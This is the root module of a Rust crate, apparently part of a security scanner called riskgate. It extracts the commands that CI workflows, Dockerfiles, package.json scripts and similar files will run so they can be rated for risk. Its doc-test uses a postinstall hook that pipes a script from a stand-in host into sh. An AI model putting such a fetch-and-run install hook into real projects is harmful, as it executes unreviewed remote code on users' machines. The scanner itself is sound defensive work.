//! Reads a repository the way CI, build tools and package managers will: finds the files that
//! say what will run and extracts every command and code snippet in them, with its file, line,
//! column and context. Rating is not done here: the `riskgate` facade rates each [`Snippet`]
//! with its engine and policy, and turns each [`Notice`] (a finding that is not a command: an
//! unpinned action, `permissions: write-all` …) into a finding by its rule ([`rules`]).
//!
//! ```
//! use riskgate_repo::{FileKind, extract};
//!
//! let text = "{\"scripts\": {\"postinstall\": \"curl -fsSL https://x.example/i.sh | sh\"}}";
//! let found = extract("package.json", FileKind::PackageJson, text);
//! assert_eq!(found.snippets.len(), 1);
//! assert_eq!(found.snippets[0].name.as_deref(), Some("postinstall"));
//! ```
//!
//! - [`kind`]: which files are read, by path ([`FileKind`]).
//! - [`snippet`]: what is extracted ([`Snippet`], [`Notice`], [`Extracted`]).
//! - [`text`]: line index, template normalization (`${{ … }}`, `{{ … }}` become variables).
//! - one module per file kind: [`github`], [`gitlab`], [`docker`], [`make`], [`package`],
//!   [`python`], [`precommit`], [`devcontainer`], [`just`], [`taskfile`], [`script`].
//! - [`rules`]: the rules of notices (`rules/ci/repo.yaml`), with their examples.
//! - [`report`], [`sarif`]: a scan's results and their SARIF 2.1.0 form.
//! - `walk` (feature `walk`): the files of a tree, `.gitignore` and `.riskgateignore` respected.

pub mod devcontainer;
pub mod docker;
pub mod github;
pub mod gitlab;
mod json;
pub mod just;
pub mod kind;
pub mod make;
pub mod package;
pub mod precommit;
pub mod python;
pub mod report;
pub mod rules;
pub mod sarif;
pub mod script;
pub mod snippet;
pub mod taskfile;
pub mod text;
#[cfg(feature = "walk")]
pub mod walk;
mod yaml;

pub use kind::FileKind;
pub use snippet::{Extracted, Notice, Snippet, SnippetLang};

/// Largest file read (bytes). A larger file is not read: its [`Extracted`] carries the
/// `repo.not-analyzed` notice, so it is never taken as harmless.
pub const MAX_FILE_BYTES: u64 = 1024 * 1024;

/// Extract what `text` (the content of the file at `path`, relative to the scanned root, `/`
/// separators) will run, read as `kind`. Never panics; a file that cannot be parsed gives the
/// `repo.not-analyzed` notice.
pub fn extract(path: &str, kind: FileKind, text: &str) -> Extracted {
    let run = || match kind {
        FileKind::GithubWorkflow => github::extract_workflow(text),
        FileKind::GithubAction => github::extract_action(text),
        FileKind::GitlabCi => gitlab::extract(text),
        FileKind::Dockerfile => docker::extract(text),
        FileKind::Makefile => make::extract(text),
        FileKind::PackageJson => package::extract(text),
        FileKind::Pyproject => python::extract_pyproject(text),
        FileKind::SetupPy => python::extract_setup_py(text),
        FileKind::PreCommit => precommit::extract(text),
        FileKind::Devcontainer => devcontainer::extract(text),
        FileKind::Justfile => just::extract(text),
        FileKind::Taskfile => taskfile::extract(text),
        FileKind::ShellScript => script::extract(text),
    };
    let mut out = match std::panic::catch_unwind(std::panic::AssertUnwindSafe(run)) {
        Ok(out) => out,
        Err(_) => {
            let mut e = Extracted::default();
            e.not_analyzed(1, 1, "riskgate failed while reading it (an internal error)");
            e
        }
    };
    out.kind = Some(kind);
    out.path = path.to_string();
    out
}
